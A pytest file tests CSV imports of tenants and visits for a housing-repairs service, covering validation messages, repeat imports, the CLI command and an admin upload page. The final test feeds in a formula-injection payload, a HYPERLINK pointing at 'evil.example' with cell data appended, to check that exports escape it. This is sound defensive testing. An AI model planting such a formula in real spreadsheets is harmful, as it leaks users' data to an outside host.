"""CSV imports: good rows load, bad rows are reported with their reason, and the same file twice changes nothing.

Through the loader itself, the `import-csv` command and the console's upload page.
"""

import csv
import io
import time

import pytest
from sqlalchemy import func, select

from service import api_keys, csv_import
from store.db import transaction
from store.models import AuditEntry, ImportJob, Operative, Property, Reminder, Tenant, Visit
from tests.console_factories import create_officer, csrf_token, page, sign_in
from tests.factories import create_operative, create_tenant, london

NOW = london(2024, 5, 13, 9, 0)

TENANTS = f"""{",".join(csv_import.TENANT_COLUMNS)}
T-1,Amara Okafor,07700 900101,yes,en,whatsapp,P-1,12 Larch Close,,Leeds,LS6 2AB
T-2,Dafydd Rhys,07700 900102,,cy,,P-2,3 Heol y Bont,Flat 2,Cardiff,cf10 1aa
T-3,Ola Nowak,01632 960103,,pl,,P-3,5 Elm Row,,Leeds,LS6 3CD
T-4,Ruth Ellis,07700 900104,,klingon,,P-4,7 Elm Row,,Leeds,LS6 3CE
T-1,Amara Okafor,07700 900101,,en,,P-1,12 Larch Close,,Leeds,LS6 2AB
T-5,Sam Patel,07700 900102,,en,,P-5,9 Elm Row,,Leeds,LS6 3CF
T-6,,07700 900106,,en,,P-6,11 Elm Row,,Leeds,LS6
T-7,Nia Evans,07700 900999,,en,,,,,,
T-8,Kofi Mensah,07700 900123,,en,,,,,,
T-9,Lena Berg,07700 900109,,en,,P-2,3 Heol y Bont,Flat 2,Cardiff,CF10 1AA
"""

VISITS = f"""{",".join(csv_import.VISIT_COLUMNS)}
V-1,gas_safety_check,T-1,P-1,2024-05-20T10:00:00+01:00,2024-05-20T11:00:00+01:00,OP-1
V-2,boiler_swap,T-1,P-1,2024-05-21T10:00:00+01:00,2024-05-21T11:00:00+01:00,
V-3,repair,T-404,P-1,2024-05-21T10:00:00+01:00,2024-05-21T12:00:00+01:00,
V-4,repair,T-2,P-2,2024-05-22T12:00:00+01:00,2024-05-22T10:00:00+01:00,
V-5,repair,T-2,P-2,2024-05-22T10:00:00+01:00,2024-05-22T12:00:00+01:00,OP-404
V-6,repair,T-2,P-2,2024-05-23T10:00:00+01:00,2024-05-23T12:00:00+01:00,
"""


@pytest.fixture
def frozen(runtime):
    runtime.clock = lambda: NOW
    # Someone already in the database: a row with their number is a duplicate.
    create_tenant(runtime, phone="+447700900123", name="Grace Adeyemi")
    return runtime


def load(runtime, kind, text) -> csv_import.Result:
    return csv_import.run_import(runtime, kind, text, actor="import:test")


def problems(result) -> dict[tuple[int, str], str]:
    return {(error.row, error.column): error.reason for error in result.errors}


def references(runtime, model) -> list[str]:
    with transaction(runtime.sessions) as session:
        return sorted(session.scalars(select(model.reference).where(model.reference.is_not(None))))


def with_operative(runtime):
    create_operative(runtime)
    with transaction(runtime.sessions) as session:
        session.scalar(select(Operative)).reference = "OP-1"


# The loader.


def test_good_tenant_rows_load_and_each_bad_row_is_reported_with_its_reason(frozen):
    result = load(frozen, "tenants", TENANTS)

    assert (result.total, result.created, result.updated, result.unchanged) == (10, 3, 0, 0)
    assert references(frozen, Tenant) == ["T-1", "T-2", "T-7"]
    assert references(frozen, Property) == ["P-1", "P-2"]
    found = problems(result)
    assert "not a UK mobile" in found[(4, "phone")]
    assert "unknown language 'klingon'" in found[(5, "language")]
    assert "T-1 is also on row 2" in found[(6, "tenant_reference")]
    assert "+447700900102 is also on row 3 (tenant T-2)" in found[(7, "phone")]
    assert found[(8, "name")] == "is required" and "not a full UK postcode" in found[(8, "postcode")]
    assert "already belongs to another tenant" in found[(10, "phone")]
    assert found[(11, "property_reference")] == "P-2 is also on row 3"
    assert result.rejected_rows == 7 and {error.row for error in result.errors} == {4, 5, 6, 7, 8, 10, 11}

    with transaction(frozen.sessions) as session:
        amara = session.scalar(select(Tenant).where(Tenant.reference == "T-1"))
        assert (amara.whatsapp, amara.preferred_channel, amara.phone) == (True, "whatsapp", "+447700900101")
        home = session.scalar(select(Property).where(Property.reference == "P-2"))
        assert (home.postcode, home.address_line2, home.tenant.reference) == ("CF10 1AA", "Flat 2", "T-2")


def test_loading_the_same_file_again_changes_nothing(frozen):
    load(frozen, "tenants", TENANTS)
    again = load(frozen, "tenants", TENANTS)
    assert (again.created, again.updated, again.unchanged, again.rejected_rows) == (0, 0, 3, 7)
    assert references(frozen, Tenant) == ["T-1", "T-2", "T-7"]

    changed = TENANTS.replace("Dafydd Rhys", "Dafydd ap Rhys")
    assert load(frozen, "tenants", changed).updated == 1


def test_visits_load_with_their_reminders_and_bad_references_are_reported(frozen):
    with_operative(frozen)
    load(frozen, "tenants", TENANTS)
    result = load(frozen, "visits", VISITS)

    assert (result.created, result.rejected_rows) == (2, 4)
    assert references(frozen, Visit) == ["V-1", "V-6"]
    found = problems(result)
    assert "unknown visit type 'boiler_swap'" in found[(3, "visit_type")]
    assert "no tenant has reference T-404" in found[(4, "tenant_reference")]
    assert found[(5, "slot_end")] == "must be after the start"
    assert "no operative has reference OP-404" in found[(6, "operative_reference")]
    with transaction(frozen.sessions) as session:
        planned = session.scalar(select(func.count()).select_from(Reminder).join(Visit).where(Visit.reference == "V-1"))
    assert planned > 0

    assert load(frozen, "visits", VISITS).unchanged == 2


@pytest.mark.parametrize(
    "text, problem",
    [
        ("", "the file is empty"),
        ("tenant_reference,name\nT-1,Amara\n", "missing column phone"),
        ("tenant_reference,name,phone,email\n", "unknown column email"),
        ("tenant_reference,name,phone,phone\n", "column named twice: phone"),
    ],
)
def test_a_file_with_the_wrong_columns_is_refused_whole(frozen, text, problem):
    with pytest.raises(csv_import.FileProblem, match=problem):
        load(frozen, "tenants", text)


def test_a_row_with_more_cells_than_the_header_is_reported():
    rows = csv_import.read_rows("tenants", "tenant_reference,name,phone\nT-1,Amara,07700 900101,extra\n")
    assert rows[0][1]["__extra__"] == "1"


def test_the_error_report_opens_safely_in_a_spreadsheet():
    report = csv_import.report_csv(
        [{"row": 3, "reference": "=HYPERLINK(1)", "column": "name", "reason": "is required"}]
    )
    assert report.splitlines() == ["row,reference,column,reason", "3,'=HYPERLINK(1),name,is required"]


def test_a_file_that_is_not_utf8_is_refused():
    with pytest.raises(csv_import.FileProblem, match="not UTF-8"):
        csv_import.decode("tenant_reference,name\nT-1,Zoë".encode("utf-16"))


# The command.


def test_the_command_loads_the_file_shows_progress_and_writes_the_rows_that_did_not_load(live_app, frozen, tmp_path):
    source = tmp_path / "tenants.csv"
    source.write_text(TENANTS, encoding="utf-8")
    outcome = live_app.test_cli_runner().invoke(args=["import-csv", str(source), "--kind", "tenants"])

    assert outcome.exit_code == 1  # some rows need fixing
    assert "10/10 rows checked, 7 with problems" in outcome.output
    assert "10 rows: 3 new, 0 updated, 0 unchanged, 7 not loaded" in outcome.output
    assert "row 4 T-3 phone:" in outcome.output
    report = (tmp_path / "tenants.errors.csv").read_text(encoding="utf-8").splitlines()
    assert report[0] == "row,reference,column,reason" and len(report) == 1 + 8


def test_the_command_refuses_a_file_with_the_wrong_columns(live_app, frozen, tmp_path):
    source = tmp_path / "visits.csv"
    source.write_text("reference,when\n", encoding="utf-8")
    outcome = live_app.test_cli_runner().invoke(args=["import-csv", str(source), "--kind", "visits"])
    assert outcome.exit_code == 1 and "missing column visit_reference" in outcome.output


# The console.


@pytest.fixture
def admin(live_app, frozen):
    create_officer(frozen, email="jo.admin@example.org", name="Jo Admin", role="admin")
    client = live_app.test_client()
    assert sign_in(client, email="jo.admin@example.org").status_code == 302
    return client


def upload(client, kind, text, filename="tenants.csv"):
    return client.post(
        "/console/imports",
        data={
            "kind": kind,
            "file": (io.BytesIO(text.encode()), filename),
            "csrf_token": csrf_token(client, "/console/imports"),
        },
        content_type="multipart/form-data",
    )


def wait_for_job(runtime, job_id, seconds=20) -> ImportJob:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with transaction(runtime.sessions) as session:
            job = session.get(ImportJob, job_id)
            if job.status != "running":
                return job
        time.sleep(0.05)
    raise AssertionError("the import did not finish")


def test_an_admin_uploads_a_file_watches_it_load_and_downloads_the_problems(frozen, admin):
    answer = upload(admin, "tenants", TENANTS)
    assert answer.status_code == 302
    job_id = int(answer.headers["Location"].rstrip("/").rsplit("/", 1)[1])

    job = wait_for_job(frozen, job_id)
    assert (job.status, job.total_rows, job.processed_rows, job.created_count) == ("done", 10, 10, 3)
    shown = page(admin, f"/console/imports/{job_id}")
    assert "Finished: 10 rows." in shown and "not a UK mobile" in shown and 'http-equiv="refresh"' not in shown

    report = admin.get(f"/console/imports/{job_id}/errors.csv")
    assert report.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in report.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(report.get_data(as_text=True))))
    assert {"row": "5", "reference": "T-4", "column": "language"}.items() <= rows[1].items()
    assert rows[1]["reason"].startswith("unknown language 'klingon': use one of en, cy")
    assert references(frozen, Tenant) == ["T-1", "T-2", "T-7"]
    with transaction(frozen.sessions) as session:
        assert session.scalar(select(AuditEntry.action).order_by(AuditEntry.id.desc())) == "imported_csv"
    assert "tenants.csv" in page(admin, "/console/imports")


def test_a_running_import_page_refreshes_itself(frozen, admin):
    with transaction(frozen.sessions) as session:
        job = ImportJob(kind="tenants", filename="big.csv", status="running", total_rows=5000, processed_rows=1200)
        session.add(job)
    shown = page(admin, f"/console/imports/{job.id}")
    assert 'http-equiv="refresh"' in shown and "1200 of 5000 rows checked" in shown


def test_a_file_with_the_wrong_columns_is_refused_on_the_page(frozen, admin):
    answer = upload(admin, "visits", "reference,when\n", filename="visits.csv")
    assert answer.status_code == 302 and answer.headers["Location"].endswith("/console/imports")
    assert "missing column visit_reference" in page(admin, "/console/imports")


def test_only_admins_may_import(live_app, frozen):
    create_officer(frozen)
    client = live_app.test_client()
    sign_in(client)
    assert client.get("/console/imports").status_code == 403
    assert "Imports" not in page(client, "/console/")


def test_the_hms_api_and_the_import_store_the_same_way(live_app, frozen):
    """A tenant loaded by CSV reads back through the API exactly as one sent by the API."""
    load(frozen, "tenants", TENANTS)
    with transaction(frozen.sessions) as session:
        key = api_keys.create_key(session, "Reporting", ["hms_read"])
    answer = live_app.test_client().get("/api/v1/hms/tenants/T-2", headers={"Authorization": f"Bearer {key}"})
    assert answer.get_json()["language"] == "cy" and answer.get_json()["phone"] == "+447700900102"


def test_a_file_with_an_unclosed_quote_or_a_stray_carriage_return_says_where():
    with pytest.raises(csv_import.FileProblem, match="cannot be read as CSV"):
        csv_import.read_rows("tenants", "tenant_reference,name,phone\nT-1,A\rB,07700 900123\n")


def test_spreadsheet_exports_keep_formulas_as_text():
    from service.spreadsheets import csv_text

    text = csv_text(["said"], [['=HYPERLINK("http://evil.example/?x="&A1,"click")'], ["-1"], ["fine"]])
    assert text.splitlines()[1].startswith("\"'=HYPERLINK")
    assert text.splitlines()[2:] == ["'-1", "fine"]
